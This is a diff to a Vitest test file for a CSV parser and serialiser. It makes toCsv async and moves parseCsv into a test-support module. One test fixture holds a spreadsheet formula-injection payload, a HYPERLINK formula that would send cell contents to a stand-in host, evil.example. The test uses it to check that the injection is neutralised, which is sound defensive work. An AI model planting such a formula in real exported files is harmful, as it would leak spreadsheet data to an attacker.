@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
-import { CsvError, parseCsv, toCsv } from '#shared/csv.ts';
+import { toCsv } from '#shared/csv.ts';
+import { CsvError, parseCsv } from '../support/csv.ts';
 
-describe('parseCsv', () => {
+describe("CSV out (toCsv) and back (the tests' parseCsv)", () => {
   it('reads a header and records, with quotes, commas, newlines and a BOM', () => {
     const text = '\ufeffname,notes,hours\r\n张三,"a, b",4\n"李""四","line1\nline2",2.5\n';
     const { header, records } = parseCsv(text);
@@ -23,8 +24,8 @@ describe('parseCsv', () => {
     expect(() => parseCsv('')).toThrow(/empty/);
   });
 
-  it('round-trips through toCsv', () => {
-    const csv = toCsv(
+  it('round-trips through toCsv', async () => {
+    const csv = await toCsv(
       ['a', 'b'],
       [
         ['x,y', 'he said "hi"'],
@@ -35,9 +36,9 @@ describe('parseCsv', () => {
     expect(parseCsv(csv).records[0]!.values).toEqual({ a: 'x,y', b: 'he said "hi"' });
   });
 
-  it('neutralises text a spreadsheet would run as a formula (issue 13, defect 6)', () => {
+  it('neutralises text a spreadsheet would run as a formula (issue 13, defect 6)', async () => {
     const evil = '=HYPERLINK("http://evil.example/?q="&A1,"工资单")';
-    const csv = toCsv(
+    const csv = await toCsv(
       ['name', 'n'],
       [
         [evil, -5],
